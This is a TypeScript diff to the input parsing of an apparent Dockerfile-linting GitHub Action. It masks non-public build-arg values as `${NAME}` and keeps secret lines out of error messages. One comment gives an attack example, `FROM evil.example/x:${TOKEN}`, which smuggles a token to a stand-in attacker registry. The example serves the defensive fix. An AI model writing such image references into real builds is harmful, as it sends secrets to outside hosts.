@@ -8,6 +8,10 @@ export interface ActionInputs {
   dockerfiles: string[]
   config: string | null
   target: string | null
+  /**
+   * The build-args input, each value not listed in build-args-public withheld: replaced by the
+   * text `${NAME}`, so it is never analysed, shown or sent to a registry (it may be a secret).
+   */
   buildArgs: Record<string, string>
   annotate: AnnotateMode
   /** null: the configuration's fail-on (or .hadolint.yaml's failure-threshold), else error. */
@@ -39,12 +43,15 @@ function choice<T extends string>(name: string, allowed: readonly T[], fallback:
 }
 
 export function readInputs(): ActionInputs {
+  const shown = new Set(core.getInput('build-args-public').split(/[\s,]+/).filter((n) => n !== ''))
   const buildArgs: Record<string, string> = {}
-  for (const line of core.getMultilineInput('build-args')) {
+  core.getMultilineInput('build-args').forEach((line, i) => {
     const eq = line.indexOf('=')
-    if (eq <= 0) throw new InputError(`input build-args: "${line}" is not K=V`)
-    buildArgs[line.slice(0, eq).trim()] = line.slice(eq + 1)
-  }
+    // Never echo the line: its value may be a secret.
+    if (eq <= 0) throw new InputError(`input build-args: line ${i + 1} is not NAME=value`)
+    const name = line.slice(0, eq).trim()
+    buildArgs[name] = shown.has(name) ? line.slice(eq + 1) : withheld(name)
+  })
   const checkRun = boolean('check-run', true)
   const registryCredentials: Record<string, RegistryCredentials> = {}
   core.getMultilineInput('registry-credentials').forEach((line, i) => {
@@ -78,6 +85,15 @@ export function readInputs(): ActionInputs {
     registryTimeoutMs: Math.round(timeout * 1000),
     images: core.getMultilineInput('image').filter((l) => l.trim() !== '')
   }
+}
+
+/**
+ * What a withheld build arg expands to: its own reference, which no image reference, path or
+ * URL check accepts as a value, so `FROM evil.example/x:${TOKEN}` (or an `ARG X=${TOKEN}` alias)
+ * shows `${TOKEN}` and is never looked up.
+ */
+export function withheld(name: string): string {
+  return `\${${name}}`
 }
 
 function shellcheckInput(value: string): boolean | string | null {
